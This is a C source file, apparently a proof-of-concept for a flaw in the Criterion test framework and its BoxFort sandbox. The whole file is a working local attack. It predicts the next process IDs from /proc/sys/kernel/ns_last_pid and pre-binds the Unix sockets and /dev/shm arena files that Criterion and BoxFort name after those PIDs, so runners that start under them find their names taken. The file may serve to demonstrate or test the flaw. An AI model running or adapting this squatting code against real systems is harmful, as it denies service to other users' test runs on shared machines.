/* squat.c: an attacker taking, ahead of time, the names Criterion gives its
 * runner's socket (/tmp/criterion_PID.sock) and BoxFort its arena
 * (/dev/shm/bxf_arena_PID), and BoxFort its workers (/dev/shm/bxfi_PID),
 * for the next COUNT PIDs the kernel will hand out: a runner started among
 * them finds its name taken.
 *
 *     squat COUNT
 *
 * Binds and listens on a socket and creates an arena file for each,
 * prints "squatted FIRST LAST (N sockets)", and keeps listening until
 * killed: a socket nobody listens on is taken for stale (nanomsg, under
 * Criterion, then removes it and binds its own). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 2 || atoi(argv[1]) <= 0) {
        fprintf(stderr, "usage: squat COUNT\n");
        return 2;
    }
    int count = atoi(argv[1]), last = 0;
    FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "re");
    if (f == NULL || fscanf(f, "%d", &last) != 1) {
        fprintf(stderr, "squat: cannot read ns_last_pid\n");
        return 2;
    }
    fclose(f);
    int taken = 0;
    for (int pid = last + 1; pid <= last + count; pid++) {
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        snprintf(a.sun_path, sizeof a.sun_path, "/tmp/criterion_%d.sock", pid);
        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (s >= 0 && bind(s, (struct sockaddr *)&a, sizeof a) == 0 &&
            listen(s, 1) == 0)
            taken++;
        const char *shm[] = {"/dev/shm/bxf_arena_%d", "/dev/shm/bxfi_%d"};
        for (size_t i = 0; i < sizeof shm / sizeof shm[0]; i++) {
            char name[64];
            snprintf(name, sizeof name, shm[i], pid);
            int fd = open(name, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
            if (fd >= 0)
                close(fd);
        }
    }
    printf("squatted %d %d (%d sockets)\n", last + 1, last + count, taken);
    fflush(stdout);
    for (;;)
        pause();
}
